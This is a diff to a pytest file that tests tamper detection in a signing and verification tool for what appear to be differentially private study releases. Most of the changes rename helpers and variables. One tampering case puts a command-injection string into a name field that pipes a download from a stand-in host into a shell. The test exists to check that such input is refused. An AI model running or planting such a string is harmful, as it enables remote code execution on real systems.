@@ -59,7 +59,7 @@ def edited(name, change):
     return alter
 
 
-def told(change):
+def messages(change):
     return edited("study.json", change)
 
 
@@ -103,39 +103,39 @@ def other_terms(folder):
 
 
 ALTERED = [
-    (told(gap_of_cedar), "says sites.cedar.gap.value"),
-    (told(other_version), "gap.value .* .by fedcal 9.9, this is "),
-    (told(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
-    (told(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
+    (messages(gap_of_cedar), "says sites.cedar.gap.value"),
+    (messages(other_version), "gap.value .* .by fedcal 9.9, this is "),
+    (messages(lambda t: t["since"]["2026Q4"].update(why="of another kind")), "says .*why"),
+    (messages(lambda t: t["statement"].append("Nobody is harmed.")), "the statement is"),
     (lambda f: (f / "curve-1.svg").unlink(), "curve-1.svg is not what"),
     (release("release", counts=3.0), "the release gives"),
     (release("release", std=1.0), "the release's noise is"),
     (release("release", taken='{"unit": "subject", "data": "rows.csv"}'), "the release's taken is"),
-    (release("release", law="normal"), "the release's law is"),
+    (release("release", distribution="normal"), "the release's law is"),
     (release("release", privacy='["All is exact."]'), "the release's privacy is"),
     (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
-    (told(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
-    (told(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
-    (told(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
-    (told(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
-    (told(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
-    (told(lambda t: t.update(since=5)), "does not hold"),
+    (messages(lambda t: t.update(name="x; curl evil|sh; #")), "name of the quarter in"),
+    (messages(lambda t: t.update(date="1999-01-01")), "not on 1999-01-01"),
+    (messages(lambda t: t.update(spent=0.0, left=4.0)), "releases paid for is '0"),
+    (messages(lambda t: t["versions"].update(fedcal="1\nSigned.")), "list of versions is"),
+    (messages(lambda t: t["ledger"].update(project="x")), "ledger.project is 'x'"),
+    (messages(lambda t: t.update(since=5)), "does not hold"),
     (swapped_roster, "the roster is"),
     (other_terms, "the "),
     (edited("ledger.json", lambda line: line.update(epsilon=0.5)), "ledger.json is not what"),
 ]
 
 
-@pytest.mark.parametrize(("alter", "said"), ALTERED)
-def test_what_was_altered_is_refused_although_it_is_signed_again(folder, alter, said):
+@pytest.mark.parametrize(("alter", "output"), ALTERED)
+def test_what_was_altered_is_refused_although_it_is_signed_again(folder, alter, output):
     alter(folder)
     refused("signed|No such file", verify, folder)
     write_signature(folder, KEY)
-    refused(said, verify, folder)
+    refused(output, verify, folder)
 
 
 def test_a_ledger_line_of_another_epsilon_is_not_that_of_the_terms(folder):
-    told(lambda t: t["ledger"].update(epsilon=0.5))(folder)
+    messages(lambda t: t["ledger"].update(epsilon=0.5))(folder)
     edited("ledger.json", lambda line: line.update(epsilon=0.5))(folder)
     write_signature(folder, KEY)
     refused("the ledger.epsilon is 0.5; by the terms it is 1", verify, folder)
@@ -185,19 +185,19 @@ def test_only_the_coordinator_signs_and_only_what_holds(tmp_path, call):
     refused("report.html is not what", sign, folder, key)
 
 
-def test_a_rehearsal_is_verified_and_said_to_be_one(tmp_path):
+def test_a_rehearsal_is_verified_and_reported_to_be_one(tmp_path):
     folder = tmp_path / "r"
     quarter(folder, STUDY, None, rehearsal=True, ledger={}, spent=0.0, left=4.0)
     assert "A rehearsal" in verify(folder)[0]
     shutil.copytree(folder, forged := tmp_path / "forged" / "r")
-    told(lambda told: told.update(roster="0" * 64))(forged)
+    messages(lambda messages: messages.update(roster="0" * 64))(forged)
     refused("roster", verify, forged)
     (folder / "signature.json").write_text("{}")
     refused("signature.json is not what", verify, folder)
     (folder / "signature.json").unlink()
     refused("a rehearsal is not signed", sign, folder, KEY)
     refused("is not the folder of a release", verify, tmp_path)
-    told(gap_of_cedar)(folder)
+    messages(gap_of_cedar)(folder)
     refused("sites.cedar", verify, folder)
 
 
@@ -218,8 +218,11 @@ def made_anew(folder, counts=lambda counts: None, **facts):
     content = json.loads((folder / "study.json").read_text())
     found = read_release(folder / "release.npz")
     counts(found.counts)
-    told, text = replace(QuarterFacts.of(content), **facts), (folder / "study.sealed").read_text()
-    write_quarter(folder, STUDY, text, found, told, {}, KEY)
+    messages, text = (
+        replace(QuarterFacts.of(content), **facts),
+        (folder / "study.sealed").read_text(),
+    )
+    write_quarter(folder, STUDY, text, found, messages, {}, KEY)
 
 
 def count(site, value):
@@ -241,10 +244,10 @@ ATTACKS = {
 
 @pytest.mark.parametrize("name", ATTACKS)
 def test_a_quarter_holds_nothing_that_was_not_verified(trial, tmp_path, call, name):
-    folder, (alter, said) = tmp_path / "2026Q4", ATTACKS[name]
+    folder, (alter, output) = tmp_path / "2026Q4", ATTACKS[name]
     shutil.copytree(trial, folder)
     alter(folder)
-    assert re.search(said, line := call("study", "verify", folder, code=2)), line
+    assert re.search(output, line := call("study", "verify", folder, code=2)), line
 
 
 def test_what_verify_does_not_check_it_names(trial, tmp_path, call):
@@ -283,9 +286,9 @@ def test_a_rehearsal_of_any_question_is_verified(tmp_path, method):
     there = Hospitals(tmp_path)
     there.kits(question={"method": method})
     rehearse(there.file, "try", str(write_rows(tmp_path / "rows.csv")))
-    said = verify(tmp_path / "try")
-    assert "A rehearsal" in said[0]
-    assert "Not checked: that the numbers and pages of the result follow" in said[-1]
+    output = verify(tmp_path / "try")
+    assert "A rehearsal" in output[0]
+    assert "Not checked: that the numbers and pages of the result follow" in output[-1]
     record = tmp_path / "try" / "result.json"
     text = record.read_text("utf-8")
     record.write_text(text.replace('"unit": "subject"', '"unit": "example"'), "utf-8")
